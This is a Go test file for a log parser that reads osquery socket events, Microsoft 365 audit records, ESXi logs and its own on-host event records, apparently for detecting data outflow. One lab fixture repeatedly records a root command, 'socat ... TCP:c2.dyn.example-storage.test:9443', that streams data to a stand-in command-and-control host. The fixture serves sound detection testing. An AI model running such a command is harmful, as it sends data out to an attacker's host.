package feed

import (
	"strings"
	"testing"
)

func readAll(t *testing.T, in string) ([]Event, *Reader) {
	t.Helper()
	var evs []Event
	r := NewReader("test")
	if err := r.Read(strings.NewReader(in), func(e *Event) { evs = append(evs, *e) }); err != nil {
		t.Fatal(err)
	}
	return evs, r
}

// TestOsquery: result-log lines in osquery's three shapes (differential
// event, snapshot, batch), with the socket_events and process_open_sockets
// columns its schema documents. No real log of these tables was found to
// test against (hostlogs MANIFEST), so these lines follow the documented
// formats.
func TestOsquery(t *testing.T) {
	in := osqueryLines
	evs, r := readAll(t, in)
	if len(evs) != 3 || r.Stats.Ignored != 2 {
		t.Fatalf("events %+v stats %+v", evs, r.Stats)
	}
	c := evs[0]
	if c.Kind != KindConnect || c.Feed != FeedOsquery || c.Host != "web01" || c.PID != 4242 || c.Image != "/usr/bin/curl" ||
		!c.Initiated || c.HasSrcPort || c.Dst.String() != "203.0.113.9" || c.DstPort != 443 || c.Time.Unix() != 1795514399 {
		t.Errorf("socket_events connect: %+v", c)
	}
	if s := evs[1]; !s.HasSrcPort || !s.Initiated || s.SrcPort != 51000 || s.Dst.String() != "198.51.100.7" || s.PID != 4243 {
		t.Errorf("process_open_sockets row: %+v", s)
	}
	// A socket on a well-known local port with an ephemeral remote one is
	// the server's end.
	if s := evs[2]; s.Initiated || s.DstPort != 22 || s.Src.String() != "192.0.2.44" {
		t.Errorf("server socket: %+v", s)
	}
}

// TestM365: unified audit log records as the Management Activity API
// documents them (SharePoint and OneDrive file activity).
func TestM365(t *testing.T) {
	in := m365Lines
	evs, r := readAll(t, in)
	if len(evs) != 2 || r.Stats.Ignored != 1 {
		t.Fatalf("events %+v stats %+v", evs, r.Stats)
	}
	e := evs[0]
	if e.Kind != KindSaaSFile || e.Action != "FileUploaded" || e.User != "alice@contoso.com" || e.Src.String() != "203.0.113.50" ||
		e.Bytes != 48211 || !strings.HasSuffix(e.Target, "q3-plan.xlsx") || e.Time.Format("15:04:05") != "14:02:11" {
		t.Errorf("%+v", e)
	}
	if e := evs[1]; e.Src.String() != "2001:db8::5" || e.Bytes != -1 {
		t.Errorf("%+v", e)
	}
}

// TestESXi: hostd and vmkernel lines, bare and behind a syslog header, in
// the layouts ESXi 7 writes.
func TestESXi(t *testing.T) {
	in := esxiLines
	evs, r := readAll(t, in)
	if len(evs) != 3 || len(r.Stats.Errors) != 0 {
		t.Fatalf("events %+v stats %+v", evs, r.Stats)
	}
	if e := evs[0]; e.Kind != KindServiceLog || e.Image != "hostd" || e.PID != 2099582 || !strings.HasPrefix(e.Target, "Task Created") {
		t.Errorf("hostd: %+v", e)
	}
	if e := evs[1]; e.Image != "vmkernel" || e.PID != 2097590 || !strings.Contains(e.Target, "vm1-flat.vmdk") {
		t.Errorf("vmkernel: %+v", e)
	}
	if e := evs[2]; e.Image != "vpxa" || e.Host != "esxi01" || e.PID != 2100101 {
		t.Errorf("vpxa via syslog: %+v", e)
	}
}

const osqueryLines = `{"name":"pack_net_socket_events","hostIdentifier":"web01.example.com","calendarTime":"Mon Nov 23 10:00:00 2026 UTC","unixTime":1795514400,"epoch":0,"counter":12,"numerics":false,"columns":{"action":"connect","pid":"4242","fd":"3","path":"/usr/bin/curl","family":"2","protocol":"6","local_address":"","remote_address":"203.0.113.9","local_port":"0","remote_port":"443","time":"1795514399","success":"1","auid":"1000"},"action":"added"}
{"name":"open_sockets","hostIdentifier":"web01","unixTime":1795514460,"action":"snapshot","snapshot":[{"pid":"4243","fd":"5","socket":"99","family":"2","protocol":"6","local_address":"10.0.0.5","remote_address":"198.51.100.7","local_port":"51000","remote_port":"443","path":"","state":"ESTABLISHED"},{"pid":"1","fd":"7","socket":"12","family":"2","protocol":"6","local_address":"0.0.0.0","remote_address":"0.0.0.0","local_port":"22","remote_port":"0","path":"","state":"LISTEN"}]}
{"name":"open_sockets","hostIdentifier":"web01","unixTime":1795514470,"diffResults":{"added":[{"pid":"800","fd":"4","family":"2","protocol":"6","local_address":"10.0.0.5","remote_address":"192.0.2.44","local_port":"22","remote_port":"60000","state":"ESTABLISHED"}],"removed":[]}}
{"name":"pack_net_socket_events","hostIdentifier":"web01","unixTime":1795514480,"columns":{"action":"bind","pid":"77","path":"/usr/sbin/sshd","local_address":"0.0.0.0","remote_address":"","local_port":"22","remote_port":"0","time":"1795514480","success":"1"},"action":"added"}
`

const m365Lines = `{"CreationTime":"2026-11-20T14:02:11","Id":"5e8c1c2e-0000-4000-8000-000000000001","Operation":"FileUploaded","OrganizationId":"00000000-0000-0000-0000-000000000000","RecordType":6,"UserKey":"i:0h.f|membership|1003200000000000@live.com","UserType":0,"Version":1,"Workload":"OneDrive","ClientIP":"203.0.113.50","ObjectId":"https://contoso-my.sharepoint.com/personal/alice_contoso_com/Documents/q3-plan.xlsx","UserId":"Alice@contoso.com","EventSource":"SharePoint","ItemType":"File","SourceFileExtension":"xlsx","SourceFileName":"q3-plan.xlsx","SourceRelativeUrl":"Documents","FileSizeBytes":48211}
{"CreationTime":"2026-11-20T14:03:00","Operation":"PageViewed","Workload":"SharePoint","UserId":"alice@contoso.com","ClientIP":"203.0.113.50"}
{"CreationTime":"2026-11-20T14:04:00","Operation":"FileSyncUploadedFull","Workload":"OneDrive","UserId":"bob@contoso.com","ClientIP":"[2001:db8::5]:443","ObjectId":"https://contoso-my.sharepoint.com/personal/bob/Documents/a.zip"}
`

const esxiLines = `2021-07-13T14:23:45.123Z info hostd[2099582] [Originator@6876 sub=Vimsvc.TaskManager opID=esxui-1a2b-3c4d user=root] Task Created : haTask--vim.VirtualMachine.exportVm-123
2021-07-13T14:23:46.001Z cpu12:2097590)NFC: 1234: transfer of /vmfs/volumes/datastore1/vm1/vm1-flat.vmdk started
<166>1 2021-07-13T14:23:47.500Z esxi01.example.local Vpxa: verbose vpxa[2100101] [Originator@6876 sub=vpxLro opID=x] [VpxLRO] -- BEGIN task-1
`

// TestOutflowRecords: what on-host mode writes (--host-events-out) reads
// back as the same events, here the detection lab's own recording.
func TestOutflowRecords(t *testing.T) {
	evs, r := readAll(t, outflowLines)
	if len(evs) != 3 || len(r.Stats.Errors) != 0 {
		t.Fatalf("%+v %+v", evs, r.Stats)
	}
	var again []byte
	for i := range evs {
		again = AppendRecord(again, &evs[i])
	}
	if string(again) != outflowLines {
		t.Errorf("round trip:\n%s\nwant\n%s", again, outflowLines)
	}
	c := evs[2]
	if c.Kind != KindConnect || !c.Initiated || !c.HasSrcPort || c.SrcPort != 41376 || c.Dst.String() != "198.51.100.10" || c.PID != 10399 {
		t.Errorf("%+v", c)
	}
	if m := evs[1]; m.Kind != KindModuleLoad || !strings.HasSuffix(m.Target, "libcrypto.so.3") {
		t.Errorf("%+v", m)
	}
}

const outflowLines = `{"outflow_event":"process_start","time":"2026-12-01T10:59:39.58Z","host":"lab","feed":"procfs","pid":10399,"ppid":10397,"image":"/usr/bin/socat","command_line":"socat -u - TCP:c2.dyn.example-storage.test:9443","user":"root","parent_image":"/usr/bin/timeout","parent_command_line":"timeout 60 socat -u - TCP:c2.dyn.example-storage.test:9443"}
{"outflow_event":"module_load","time":"2026-12-01T10:59:39.601944211Z","host":"lab","feed":"procfs","pid":10399,"ppid":10397,"image":"/usr/bin/socat","command_line":"socat -u - TCP:c2.dyn.example-storage.test:9443","user":"root","parent_image":"/usr/bin/timeout","parent_command_line":"timeout 60 socat -u - TCP:c2.dyn.example-storage.test:9443","target":"/usr/lib/x86_64-linux-gnu/libcrypto.so.3"}
{"outflow_event":"connect","time":"2026-12-01T10:59:39.600108114Z","host":"lab","feed":"procfs","pid":10399,"ppid":10397,"image":"/usr/bin/socat","command_line":"socat -u - TCP:c2.dyn.example-storage.test:9443","user":"root","parent_image":"/usr/bin/timeout","parent_command_line":"timeout 60 socat -u - TCP:c2.dyn.example-storage.test:9443","proto":6,"src":"10.77.0.2","src_port":41376,"dst":"198.51.100.10","dst_port":9443,"initiated":true,"has_src_port":true}
`

// TestESXiTabAfterTag: issue 16's 41-byte line, a syslog header whose tag is
// followed by a tab, read to its message instead of failing.
func TestESXiTabAfterTag(t *testing.T) {
	line := "2026-12-01T10:00:00Z esx1 Hostd:\tstarted"
	e, ok := esxiLine(line)
	if ok && (e.Host != "esx1" || e.Target != "started") {
		t.Errorf("%+v", e)
	}
	r := NewReader("test")
	var n int
	r.Line([]byte(line), 0, func(*Event) { n++ })
	if r.Stats.Errors[ReasonPanic] != 0 {
		t.Fatalf("%v", r.Stats.Errors)
	}
}

// TestReaderSurvivesAParserBug: a panic inside a parser is one counted,
// reported record, and the next record is read.
func TestReaderSurvivesAParserBug(t *testing.T) {
	var errs []*Error
	r := NewReader("test")
	r.OnError = func(e *Error) { errs = append(errs, e) }
	var got []string
	emit := func(e *Event) {
		if e.Host == "boom" {
			panic("a bug")
		}
		got = append(got, e.Host)
	}
	r.Line([]byte("2026-12-01T10:00:00Z boom Hostd: hostd[1] one"), 7, emit)
	r.Line([]byte("2026-12-01T10:00:01Z esx2 Hostd: hostd[2] two"), 90, emit)
	if len(got) != 1 || got[0] != "esx2" || r.Stats.Errors[ReasonPanic] != 1 || len(errs) != 1 || errs[0].Offset != 7 {
		t.Fatalf("events %v, errors %v %+v", got, r.Stats.Errors, errs)
	}
}
